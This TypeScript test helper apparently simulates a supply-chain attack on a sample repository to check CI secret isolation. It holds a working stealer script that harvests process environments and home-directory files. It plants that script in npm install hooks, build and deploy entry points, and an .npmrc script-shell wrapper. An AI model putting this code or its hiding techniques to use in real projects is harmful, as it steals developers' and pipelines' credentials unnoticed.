import { existsSync, readdirSync, readFileSync } from 'node:fs'
import path from 'node:path'
import type { sampleRepository } from './sampleRepository'

/** Reads whatever a program of this user can read of secrets, and keeps it in a folder: a file for each time that it ran. */
const thiefScript = (
  loot: string,
) => `const { mkdirSync, readdirSync, readFileSync, statSync, writeFileSync } = require('node:fs')
const path = require('node:path')
const tried = (read) => { try { return read() } catch { return '' } }
const environments = tried(() => readdirSync('/proc')).length === 0 ? '' : readdirSync('/proc')
  .filter((name) => /^\\d+$/.test(name))
  .map((name) => tried(() => readFileSync('/proc/' + name + '/environ', 'utf8')))
  .join('\\n')
const filesIn = (folder, depth) => depth === 0 ? '' : tried(() => readdirSync(folder, { withFileTypes: true })
  .filter(({ name }) => name !== 'node_modules' && name !== 'deploy' && name !== 'shared')
  .map((entry) => {
    const place = path.join(folder, entry.name)
    if (entry.isDirectory()) return filesIn(place, depth - 1)
    return entry.isFile() && statSync(place).size < 1e5 ? tried(() => readFileSync(place, 'utf8')) : ''
  }).join('\\n'))
const files = [process.env.HOME, process.env.RUNNER_TEMP, process.cwd()].map((folder) => folder && filesIn(folder, 5)).join('\\n')
mkdirSync(${JSON.stringify(loot)}, { recursive: true })
const found = { job: process.env.GITHUB_JOB ?? '', environment: process.env, environments, files }
writeFileSync(path.join(${JSON.stringify(loot)}, process.pid + '-' + Date.now() + '-' + Math.random()), JSON.stringify(found))
`

/** The findings of one run of a thief. The job is unknown when it ran with a clean environment. */
export interface Loot {
  readonly job: string
  readonly text: string
}

/** Puts the thief into everything of a repository that a job may run, where it goes unnoticed: the programs do their work as before. */
export function hideThief({ write, read }: ReturnType<typeof sampleRepository>, loot: string) {
  write('thief.cjs', thiefScript(loot))
  const manifest = JSON.parse(read('package.json')) as { scripts: Record<string, string> }
  const { pipeline = '', release = '' } = manifest.scripts
  const steal = 'node thief.cjs'
  const scripts = {
    ...manifest.scripts,
    ...{ preinstall: steal, postinstall: steal, prepare: steal },
    ...{ pipeline: `${steal} && ${pipeline}`, release: `${steal} && ${release}` },
  }
  write('package.json', JSON.stringify({ ...manifest, scripts }, null, 2))
  for (const file of ['deploy/pipeline/src/main.ts', 'deploy/release-cli/src/main.ts'])
    write(file, `import '../../../thief.cjs'\n${read(file)}`)
  const pnpm = 'deploy/dev/bin/pinnedPnpm.mjs'
  write(pnpm, read(pnpm).replace("import process from 'node:process'", "$&\nimport '../../../thief.cjs'"))
  hideInBuild({ write, read })
}

/** Puts the thief into what builds the wallet: its script, and the shell that npm runs it with. */
function hideInBuild({ write, read }: Pick<ReturnType<typeof sampleRepository>, 'write' | 'read'>) {
  write('remote-wallet/build.mjs', `import '../thief.cjs'\n${read('remote-wallet/build.mjs')}`)
  write('remote-wallet/.npmrc', 'script-shell=./shell.sh\n')
  write('remote-wallet/shell.sh', '#!/bin/sh\nnode ../thief.cjs\nexec sh "$@"\n', 0o755)
}

/** The build of the wallet alone steals, as on a main whose other files were reviewed. */
export function hideThiefInBuild(repository: ReturnType<typeof sampleRepository>, loot: string) {
  repository.write('thief.cjs', thiefScript(loot))
  hideInBuild(repository)
}

/** Everything that thieves have found. */
export function lootIn(folder: string): Loot[] {
  if (!existsSync(folder)) return []
  return readdirSync(folder).map((name) => {
    const text = readFileSync(path.join(folder, name), 'utf8')
    return { job: (JSON.parse(text) as { job: string }).job, text }
  })
}
